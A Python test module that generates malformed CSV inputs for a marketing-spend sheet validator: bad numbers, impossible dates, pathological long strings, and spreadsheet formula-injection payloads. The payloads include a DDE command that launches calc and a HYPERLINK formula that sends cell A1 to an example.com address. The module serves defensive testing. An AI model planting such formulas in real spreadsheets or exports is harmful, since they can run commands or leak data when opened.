"""Cells that are wrong in a table that is right: numbers, dates, formulas."""

from collections.abc import Iterator

from malformed import Malformed, always
from market_files import Sheet, weekly_sheet

NUMBERS: dict[str, tuple[str, str]] = {
    "NaN": ("NaN", "a number in every row"),
    "Infinity": ("Infinity", "finite number"),
    "-inf": ("-inf", "finite number"),
    "∞": ("∞", "finite number"),
    "1e999": ("1e999", "finite number"),
    "-1e999": ("-1e999", "finite number"),
    "5,000 digits": ("9" * 5000, "finite number"),
    "30,000 digits": ("9" * 30_000, "finite number"),
    "hexadecimal": ("0x1F", "plain number"),
    "octal": ("0o17", "plain number"),
    "underscores": ("1_000", "plain number"),
    "thousands with commas": ("1,234", "separators of thousands"),
    "thousands with points": ("1.234.567,89", "separators of thousands"),
    "thousands with apostrophes": ("1'234", "separators of thousands"),
    "thousands with narrow spaces": ("1\u202f234", "separators of thousands"),
    "decimal comma": ("12,5", "decimal point"),
    "full-width digits": ("１２３４", "ascii digits"),
    "Arabic digits": ("١٢٣٤", "plain number"),
    "Devanagari digits": ("१२३", "plain number"),
    "Chinese numerals": ("一千二百", "plain number"),
    "superscripts": ("10²", "ascii digits"),
    "a fraction": ("1/2", "plain number"),
    "a percentage": ("12%", "percent"),
    "euros": ("€1200", "currency"),
    "yuan": ("1200元", "currency"),
    "brackets": ("(1200)", "bookkeeping"),
    "a minus of typesetters": ("−1200", "plain number"),
    "a negative spend": ("-1200", "at least 0"),
    "two points": ("1.2.3", "plain number"),
    "two signs": ("--5", "plain number"),
    "an exponent without digits": ("1e", "plain number"),
    "a complex number": ("1+2j", "plain number"),
    "a word": ("about 1200", "plain number"),
    "a truth value": ("TRUE", "plain number"),
    "nothing": ("", "a number in every row"),
    "a dash": ("-", "a number in every row"),
    "an error of a formula": ("#DIV/0!", "error of a formula"),
    "a zero-width space": ("12\u200b00", "plain number"),
    "text from right to left": ("\u202e1200", "plain number"),
    "an emoji": ("💶", "plain number"),
}

DATES: dict[str, tuple[str, str]] = {
    "year 9999": ("9999-12-27", "year between 1800 and 2200"),
    "year 0001": ("0001-01-01", "year between 1800 and 2200"),
    "year 0000": ("0000-00-00", "year between 1800 and 2200"),
    "year 10000": ("10000-01-01", "date"),
    "a day that no month has": ("2025-02-30", "a day that exists"),
    "a month that no year has": ("2025-13-06", "a date that exists"),
    "another format": ("10/02/2025", "format of row 2"),
    "a time": ("2025-02-10 13:45", ""),
    "a time zone": ("2025-02-10T00:00:00+08:00", "date"),
    "a serial number": ("45698", "date"),
    "a time of Unix": ("1739145600", "date"),
    "full-width digits": ("２０２５-02-10", "date"),
    "a word": ("next week", "date"),
    "nothing": ("", "date"),
    "NaT": ("NaT", "date"),
    "a day between weeks": ("2025-02-12", "2025-02"),
    "a week long past": ("1990-01-01", ""),
    "a week far ahead": ("2199-12-30", ""),
    "one week twice": ("2025-01-06", ""),
    "a negative year": ("-2025-02-10", "date"),
    "5,000 digits": ("9" * 5000, "date"),
}

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(A1),0)",
    "＝1+1",
    "%0A=1+1",
    '"=1+1"',
)


def cell_cases() -> Iterator[Malformed]:
    """Every case of this module."""
    for name, (cell, says) in NUMBERS.items():
        yield _case("numbers", name, weekly_sheet().put(7, "tv_spend", cell), says)
    for name, (cell, says) in DATES.items():
        yield _case("dates", name, weekly_sheet().put(7, "week", cell), says)
    for payload in FORMULAS:
        yield _case("formulas", f"in a cell: {payload!r}", weekly_sheet().put(7, "tv_spend", payload), "plain number")
        headed = weekly_sheet()
        headed.header[2] = payload
        yield _case("formulas", f"in a name: {payload!r}", headed, "column")
    yield from _whole_columns()


def _whole_columns() -> Iterator[Malformed]:
    slashed = "a date such as 2026-01-05"
    yield _case("dates", "of either order", weekly_sheet().fill("week", lambda at: f"{at % 12 + 1}/{3}/2025"), slashed)
    mixed = ("2025-01-06", "06.01.2025", "2025/01/06", "20250106", "2025年1月6日")
    yield _case("dates", "five formats", weekly_sheet().fill("week", lambda at: mixed[at % 5]), "format of row")
    yield _case("dates", "all the same", weekly_sheet().fill("week", lambda _: "2025-01-06"), "")
    yield _case("dates", "none", weekly_sheet().fill("week", lambda _: ""), slashed)
    far = weekly_sheet().fill("week", lambda at: f"9999-{at % 12 + 1:02d}-01")
    yield _case("dates", "all in year 9999", far, "year between 1800 and 2200")
    huge = weekly_sheet().fill("tv_spend", lambda at: f"{at % 9 + 1}e308")
    yield _case("numbers", "all near the largest float", huge, "")
    tiny = weekly_sheet().fill("tv_spend", lambda at: f"{at % 9 + 1}e-320")
    yield _case("numbers", "all denormal", tiny, "between 1e-30 and 1e+15")
    yield _case("numbers", "1e308", weekly_sheet().put(7, "tv_spend", "1e308"), "between 1e-30 and 1e+15")
    yield _case("numbers", "an outcome of -1e308", weekly_sheet().put(7, "orders", "-1e308"), "between 1e-30")
    yield _case("numbers", "a control of 1e200", weekly_sheet().put(7, "price", "1e200"), "between 1e-30 and 1e+15")
    for shape in (
        "a" * 16_000 + "@" + "b" * 16_000,
        "@" * 32_000,
        "a@b." * 8_000,
        "0 " * 16_000,
        "1-" * 16_000,
        "a." * 16_000,
    ):
        texts = [f"{shape}{at}" for at in range(60)]
        long = weekly_sheet().fill("remark", texts.__getitem__).put(7, "tv_spend", "x")
        yield _case("numbers", f"beside long texts such as {shape[-16_005:][:10]!r}", long, "plain number")
    yield _case("numbers", "all alike", weekly_sheet().fill("tv_spend", lambda _: "5"), "")
    people = weekly_sheet().fill("remark", lambda at: f"someone{at}@example.com")
    yield _case("numbers", "addresses of persons beside them", people, "e-mail")


def _case(family: str, name: str, sheet: Sheet, says: str) -> Malformed:
    return Malformed(family, name, always(sheet.csv()), says)
